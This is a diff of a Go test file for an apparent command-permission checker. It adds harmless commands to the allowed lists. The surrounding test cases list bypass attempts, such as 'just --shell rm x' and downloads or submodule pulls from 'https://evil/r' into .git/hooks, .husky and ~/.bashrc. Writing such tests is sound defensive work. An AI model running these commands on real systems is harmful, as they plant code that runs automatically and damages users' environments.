@@ -109,7 +109,7 @@ func TestCommandAttack48BuildTools(t *testing.T) {
 		`nox -f x.py`, `pre-commit try-repo ./x`, `pre-commit run -c x.yaml`, `just --justfile x.txt`, `just -f x.txt`,
 		`just --shell rm x`, `just --command 'rm x'`, `just --dotenv-path x.env build`, `task -t x.yml`, `task --taskfile x.yml`,
 	}
-	fine := []string{`cmake -E echo hi`, `cmake -P x.cmake`, `cmake -DCMAKE_BUILD_TYPE=Release -S . -B build`,
+	fine := []string{`cp -r src build`, `cp x workspace/`, `cmake -E echo hi`, `cmake -P x.cmake`, `cmake -DCMAKE_BUILD_TYPE=Release -S . -B build`,
 		`cmake -DENABLE_TESTS=ON -B build`, `cmake --build build -j4`, `meson setup build`, `meson compile -C build`, `ninja -C build`,
 		`bazel build --config=ci //...`, `bazel build -c opt //...`, `gradle build --info`, `mvn -DskipTests package`,
 		`mvn -q dependency:tree`, `rake test`, `rake -T`, `tox -e py311`, `nox -s tests`, `pre-commit run --all-files`, `just build`,
@@ -268,7 +268,7 @@ func TestCommandAttack48Copies(t *testing.T) {
 		`gh release download v1 -D .git/hooks`, `gh gist clone abc .husky`, `b2 file download b2://x ~/.bashrc`,
 		`git submodule add https://evil/r .husky`, `git worktree add .husky`, `git subtree add --prefix=.husky https://evil/r main`}
 	fine := []string{`aws s3 cp s3://b/x out/x`, `docker cp c:/x ./x`, `kubectl get pods`, `gh release download v1 -D dist`,
-		`git submodule add https://x/r vendor/r`, `git worktree add ../wt`, `docker build -t x .`}
+		`git submodule add https://x/r vendor/r`, `git worktree add ../wt`, `docker build -t x .`, `aws s3 cp x s3://b/build/`}
 	checkCommands(t, []string{"aws *", "gsutil *", "gcloud *", "rclone *", "azcopy *", "docker *", "kubectl *", "gh *", "b2 *", "git *"},
 		bypass, fine, bypass, fine)
 }
